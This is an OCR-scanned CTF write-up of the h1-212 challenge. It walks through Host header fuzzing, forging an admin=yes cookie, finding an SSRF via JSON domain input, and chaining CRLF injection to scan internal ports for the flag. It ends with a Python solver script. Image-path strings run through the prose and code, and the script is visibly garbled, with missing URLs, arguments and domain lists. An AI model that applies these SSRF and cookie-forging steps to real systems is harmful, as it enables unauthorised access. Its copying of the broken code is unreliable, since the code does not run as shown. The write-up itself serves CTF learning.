h1-212 CTF Write-Up

When you first start, you’re given a basic Apache2 Ubuntu Default Page website at

Default 300x200

The first thing I did was check around the IP address, port scan, some basic dirbust, etc. Eventually I moved on to checking various headers in the request. I noticed that the Host: header allowed some fuzzing without throwing any errors and decided to move forward with that.

Looking at the hint from the tweet, it explicitly states acme.org. I tried Host: acme.org and had no luck. After trying for a bit, I looked at the tweet again and it states new admin panel. I eventually tried the host admin.acme.org which gave a new response with a blank page. Looking at the response headers, I found that it set a new cookie.


Set-Cookie: admin=noThe next guess was to set it to admin=yes. But this quickly is rejected with a method 405.

405 300x44

Trying all the HTTP verbs such as HEAD, OPTION, TRACE, POST, etc. I noticed that POST returned 406 Not Acceptable. After a lot of testing various headers, I eventually landed on fuzzing through Content-Types. Once I hit application/json

I was now getting a ??? 418 response.

71kail2gwal. sl1500  300x300


This was the output of the response:

{"error":{"body":"unable to decode"}}

Sending a generic json payload of {“test”:“test”} gives a new result:


So I continued down this path:

Sent: {“domain”:“test”}

{"error":{"domain":"incorrect value, .com domain expected"}}

Sent: {“domain”:“www.test.com”}{"error":{"domain":"incorrect value, sub domain should contain 212"}}

Sent: {“domain”:“212.test.com”}


!!! A new response.

Loading resulted in a JSON response with base64 data.

Response 300x116

This decoded into:

<head><title>302 Found</title></head><body bgcolor="white">
<center><h1>302 Found</h1></center>

I decided to try a handful of domains with the 212. subdomain and .com TLD. Each time I sent it, it would increment the read.php ID request variable by 1. I quickly realized that this was a Server-Side Request Forgery vulnerability. I tried a few things such as inputting other domains, checking request headers, redirects, protocols, etc.

I did a lot of work with SSRFs and CRLFs this year and it was fresh on my mind with Orange’s talk on it at DEF CON. Check it out if you haven’t read it yet: http://blog.orange.tw/2017/07/how-i-chained-4-vulnerabilities-on.html. I moved on to testing CRLF and I quickly noticed that this was probably vulnerable to CRLF the same way you notice that host is fuzzable in the first step.

I don’t want to admit how long it took, but after awhile I noticed that the IDs were incrementing by more than 1 when I put newlines into the domain. It’s hard to demonstrate this visually, so I’ll just show a sample of the request:Crlf 2 300x295

At this point I decided to move this process into a Python script to save effort from fuzzing -> getting output -> base64 decoding. My script went through many iterations from this point until the end, so I’ll show the final script at the end of the write-up.

I did what anyone would do in a CTF and I tried /flag.


Flag no 300x104

The result was: You really thought it would be that easy? Keep digging!

I could probably write a thesis on security with how manythings I tried getting past this step. It ranged from metadata URIs, protocols, additional CRLF fuzzing, dirbusting, and more. Eventually I got to the idea of port scanning for /flag on other ports.

I noticed that port 22 (ssh) responded with a banner. SSH was open to the public so it was expected, but it gave me some confidence that this could query ports other than 80. This gave me some confidence and I left it running.

Ssh 300x74

I looked back a bit later and boom! I hit the flag at port :1337.

1337 300x69

This challenge was a great exercise in testing all the things and keeping it simple. I had a similar conclusion when testing Jobert’s puzzle challenges at https://puzzles.jobertabma.nl/. Here are some of my takeaways:

  • Be careful going down a rabbit hole that is going to consume a lot of time if you haven’t tested for the basics yet. This is an industry where you sometimes need to take giant leaps of faith to exploit applications. As much as we love the crazy exploits, the vulnerabilities are usually textbook simple.
  • Test every input you have control over and see how the server responds when you fuzz it. It’s easy to get lost and not know the next step even though you’ve done the next step hundreds of times in the past. There were a couple of points where a checklist style approach of testing the headers such as content-types would have saved me a lot of time.
  • Trying to make things more efficient and programmatic actually hurt me a lot. If I had just tested some of the inputs manually using Burp or Live HTTP Headers I would have seen the IDs increment by more than one in the response. I tried thousands of variations of the CRLFwhen the next step was really obvious. When trying to make it easier, I actually just made myself blind.
  • Bug bounty hunters discover vulnerabilities but rarely get the chance to escalate or pivot. Trying to use a SSRF vulnerability in the real world can actually be extremely difficult. Internally scanning for hosts and ports can take awhile depending on the complexity of the SSRF. Never give up when you aren’t getting immediate results. Test everything!

The unholy python script that solves this beast of a challenge:

import requests, json, base64, urllib, hashlib

def ssrfAttempt(ssrfUrl):
    r = requests.post(
        headers = { 'host': 'admin.acme.org' },
        cookies = dict(admin='yes'),
    return r.text

def isNotExpected(hash):
    if hash not in ["d4b691cd9d99117b2ea34586d3e7eeb8", "f3fc4fb753fc9e1a95cfe4de8cd8c0dd", "d41d8cd98f00b204e9800998ecf8427e"]:
        return True
    return False

def getOutput(id):
        outputUrl = '{}'.format(id)

        r = requests.get(
            headers = { 'host': 'admin.acme.org' },
            cookies = dict(admin='yes'),

            output = base64.b64decode(json.loads(r.text)["data"])

            if "Apache2 Ubuntu Default Page: It works" in output:
                return "Apache2 default page"elif "404 Not Found" inoutput:
                return "404 Not Found"
                return output
            return 'failed GET: {}'.format(r.text)
        return 'failed POST: {}'.format(r.text)

def checkOutput(port):

    print "--- Port: {}".format(port)domains = [
    resp =ssrfAttempt(urllib.unquote("\n".join(domains)).decode('utf8'))

    id = int(json.loads(resp)["next"].split("=")[1])-1

    print "--- ID: {}".format(id)

    output = getOutput(id)
    outputHash = hashlib.md5(output).hexdigest()

    if isNotExpected(outputHash):
        print "Found new output on port {}:".format(port)
        print outputdef portScan():
    for p in xrange(1,5000):

def solve():